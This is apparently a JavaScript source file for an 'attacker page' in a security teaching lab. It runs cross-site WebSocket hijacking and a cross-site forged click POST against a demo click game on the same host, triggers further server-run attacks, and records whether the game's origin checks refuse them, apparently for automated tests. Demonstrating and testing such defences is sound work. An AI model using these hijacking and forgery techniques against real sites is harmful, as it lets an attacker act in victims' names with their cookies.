// The attacker's page (src/lab/attacker.rs). Attacks 1 and 2 run here, in the visitor's
// browser, against the game on this same host; 3 to 6 are run by this site's server
// (POST /attack/N) and only shown here. Everything from the game or the server is written with
// textContent. Findings also go to window.__reports (as in e2e/attacker.mjs), for the tests.
//
// The page attacks the game in its own scheme: opened as http:// it targets the game's ws:// and
// http:// listener, opened as https:// (the same site's TLS port) the game's wss:// and https://
// one. Not a switch within one page: browsers count the scheme in SameSite ("schemeful
// same-site"), so from an http: page a wss: handshake is cross-site and the victim's
// SameSite=Strict cookie would stay home — attack 1 would prove nothing about TLS.

window.__reports = [];
function report(name, value) {
  window.__reports.push({ name, value, at: Date.now() });
}

const $ = (sel) => document.querySelector(sel);
let game = null; // {http: 'http://host:port', ws: 'ws://host:port', tls: false}

function el(tag, text, className) {
  const node = document.createElement(tag);
  if (text !== undefined) node.textContent = text;
  if (className) node.className = className;
  return node;
}

/** Shows an outcome (`succeeded`, `refused`, `failed`), a summary and detail lines. */
function show(n, outcome, summary, lines = []) {
  const box = $(`[data-testid="result-${n}"]`);
  box.dataset.outcome = outcome;
  const label = { succeeded: 'The attack worked', refused: 'Refused', failed: 'Could not run' }[outcome] ?? outcome;
  const list = el('ul');
  for (const line of lines) list.append(el('li', line));
  // A summary that already opens with the label ("Refused before the upgrade: …") gets no
  // second one.
  const text = summary.toLowerCase().startsWith(label.toLowerCase()) ? summary : `${label}: ${summary}`;
  box.replaceChildren(el('p', text, 'summary'), list);
  report(`attack-${n}`, { outcome, summary, lines });
}

function busy(n, text) {
  const box = $(`[data-testid="result-${n}"]`);
  box.dataset.outcome = 'running';
  box.replaceChildren(el('p', text, 'summary'));
}

async function observe() {
  const res = await fetch('/observe', { cache: 'no-store' });
  if (!res.ok) throw new Error(`the game could not be observed (HTTP ${res.status})`);
  return res.json();
}

/** The running round from the game's public snapshot, waiting up to `ms` for one to open. */
async function openRound(ms = 6000) {
  const until = Date.now() + ms;
  for (;;) {
    const snap = await observe();
    if (snap.round && snap.round.winner === null) return snap;
    if (Date.now() > until) return null;
    await new Promise((r) => setTimeout(r, 100));
  }
}

// ---- 1. Cross-site WebSocket hijacking ------------------------------------------------------

function hijack() {
  return new Promise((resolve) => {
    const seen = { opened: false, events: 0, types: [], players: [], click: null, closeCode: null };
    let ws;
    try {
      ws = new WebSocket(`${game.ws}/api/ws`, 'clickgame.v1');
    } catch (err) {
      resolve({ ...seen, error: String(err) });
      return;
    }
    const done = () => {
      clearTimeout(timer);
      resolve(seen);
    };
    const timer = setTimeout(() => {
      ws.close();
      done();
    }, 8000);
    const click = (round, x, y) => ws.send(JSON.stringify({ type: 'click', id: 1, round, x, y }));
    ws.onopen = () => {
      seen.opened = true;
      ws.send(JSON.stringify({ type: 'resume' }));
    };
    ws.onmessage = (m) => {
      let msg;
      try {
        msg = JSON.parse(m.data);
      } catch {
        return;
      }
      seen.events += 1;
      if (seen.types.length < 12) seen.types.push(msg.type);
      if (msg.type === 'snapshot') {
        seen.players = (msg.players ?? []).map((p) => `${p.name} (#${p.id}, score ${p.score})`);
        if (msg.round && msg.round.winner === null) click(msg.round.number, msg.round.x, msg.round.y);
      } else if (msg.type === 'round_started') {
        click(msg.round, msg.x, msg.y);
      } else if (msg.type === 'click_result' || msg.type === 'error') {
        seen.click = msg.result ?? msg.error;
        ws.close();
      }
    };
    ws.onclose = (e) => {
      seen.closeCode = e.code;
      done();
    };
  });
}

async function attack1() {
  busy(1, 'Opening the game\'s WebSocket from this origin…');
  const seen = await hijack();
  if (!seen.opened) {
    show(1, 'refused', 'the server refused the handshake before any upgrade (the browser hides the status: the defence log shows 403 origin_not_allowed).', [
      `socket: ${game.ws}/api/ws`,
      `close code seen by this page: ${seen.closeCode} (1006: the connection never opened${game.tls ? '; over TLS also when the browser does not trust the game\'s certificate' : ''})`,
    ]);
    return;
  }
  show(1, 'succeeded', `the socket opened with your cookie; read ${seen.events} events as you${seen.click ? ` and clicked in your name: ${seen.click}` : ''}.`, [
    `socket: ${game.ws}/api/ws${game.tls ? ' — inside TLS, and it made no difference' : ''}`,
    `event types: ${seen.types.join(', ')}`,
    `players seen: ${seen.players.join('; ') || 'none'}`,
  ]);
}

// ---- 2. Cross-site click --------------------------------------------------------------------

async function attack2() {
  busy(2, 'Waiting for a target, then sending a text/plain POST with your cookie…');
  let before;
  try {
    before = await openRound();
  } catch (err) {
    show(2, 'failed', err.message);
    return;
  }
  if (!before) {
    show(2, 'failed', 'no round opened within 6 s (is the game paused?)');
    return;
  }
  const r = before.round;
  let sent = 'sent';
  try {
    await fetch(`${game.http}/api/click`, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify({ round: r.number, x: r.x, y: r.y }),
    });
  } catch (err) {
    sent = `failed to send: ${err.message}`;
  }
  await new Promise((res) => setTimeout(res, 500));
  const after = await observe();
  const changes = [];
  for (const p of after.players ?? []) {
    const was = (before.players ?? []).find((q) => q.id === p.id);
    if (was && (p.score !== was.score || p.misses !== was.misses)) {
      changes.push(`${p.name} (#${p.id}): score ${was.score} → ${p.score}, misses ${was.misses} → ${p.misses}`);
    }
  }
  const won = after.round && after.round.number === r.number && after.round.winner !== null;
  const request = `request: POST ${game.http}/api/click ${sent} (its answer is opaque to this page)`;
  if (changes.length > 0) {
    show(2, 'succeeded', `the click was counted for the visitor — round ${r.number}${won ? ` won by player ${after.round.winner}` : ''}.`, [
      request,
      ...changes,
    ]);
  } else {
    show(2, 'refused', 'no score changed: the server refused the click (the defence log shows 403 origin_not_allowed).', [
      request,
    ]);
  }
}

// ---- 3 to 6: run by this site's server ------------------------------------------------------

async function serverAttack(n) {
  busy(n, 'This site\'s server is attacking the game…');
  const victim = n === 5 ? $('[data-testid="victim"]').value : '';
  const query = new URLSearchParams();
  if (victim) query.set('victim', victim);
  if (game.tls) query.set('tls', 'true');
  let transcript;
  try {
    const qs = query.toString();
    const res = await fetch(`/attack/${n}${qs ? `?${qs}` : ''}`, { method: 'POST' });
    transcript = await res.json();
    if (!res.ok) throw new Error(transcript.detail ?? `HTTP ${res.status}`);
  } catch (err) {
    show(n, 'failed', err.message);
    return;
  }
  const lines = [
    `target: ${transcript.target}${game.tls ? ' (TLS: https:// and wss://)' : ''}`,
    ...transcript.steps.map((s) => `${s.refused ? '✗' : '✓'} ${s.sent} → ${s.answer}`),
  ];
  const outcome = transcript.succeeded ? 'succeeded' : transcript.refused ? 'refused' : 'failed';
  show(n, outcome, transcript.summary, lines);
}

async function fillVictims() {
  try {
    const snap = await observe();
    const select = $('[data-testid="victim"]');
    const keep = select.value;
    const options = [el('option', 'the first other player')];
    options[0].value = '';
    for (const p of snap.players ?? []) {
      const o = el('option', `${p.name} (#${p.id})`);
      o.value = String(p.id);
      options.push(o);
    }
    select.replaceChildren(...options);
    select.value = keep;
  } catch {
    // the game may be restarting; try again at the next tick
  }
}

/** The two ways to attack: this page over http: (plain) or over https: (TLS), as links. */
function showTransport(host, ports, tls) {
  const plain = $('[data-testid="transport-plain"]');
  const overTls = $('[data-testid="over-tls"]');
  plain.href = `http://${host}:${ports.attacker_http_port}/attacker.html`;
  plain.setAttribute('aria-current', String(!tls));
  overTls.setAttribute('aria-current', String(tls));
  if (ports.attacker_https_port) {
    overTls.href = `https://${host}:${ports.attacker_https_port}/attacker.html`;
  } else {
    overTls.removeAttribute('href');
    overTls.setAttribute('aria-disabled', 'true');
    $('[data-field="tls-why"]').textContent = '(the game runs without TLS: --no-tls)';
  }
  $('[data-testid="tls-lesson"]').hidden = !tls;
  document.body.dataset.tls = String(tls);
}

async function start() {
  const ports = await (await fetch('/target', { cache: 'no-store' })).json();
  // The game on *this* host: if you opened this page as localhost, the game is localhost too,
  // so your cookie for that name rides along.
  const host = window.location.hostname.includes(':') && !window.location.hostname.startsWith('[')
    ? `[${window.location.hostname}]`
    : window.location.hostname;
  const tls = window.location.protocol === 'https:';
  if (tls && !ports.https_port) throw new Error('the game has no TLS listener');
  game = tls
    ? { http: `https://${host}:${ports.https_port}`, ws: `wss://${host}:${ports.https_port}`, tls }
    : { http: `http://${host}:${ports.http_port}`, ws: `ws://${host}:${ports.http_port}`, tls };
  $('[data-field="origin"]').textContent = window.location.origin;
  $('[data-field="game"]').textContent = `${game.http} and ${game.ws}`;
  showTransport(host, ports, tls);
  const actions = { 1: attack1, 2: attack2, 3: () => serverAttack(3), 4: () => serverAttack(4), 5: () => serverAttack(5), 6: () => serverAttack(6) };
  for (const [n, run] of Object.entries(actions)) {
    const button = $(`[data-testid="attack-${n}"]`);
    button.addEventListener('click', async () => {
      button.disabled = true;
      try {
        await run();
      } catch (err) {
        show(n, 'failed', String(err && err.message || err));
      } finally {
        button.disabled = false;
      }
    });
  }
  fillVictims();
  setInterval(fillVictims, 3000);
  document.body.dataset.ready = 'true';
}

start().catch((err) => report('error', String(err)));
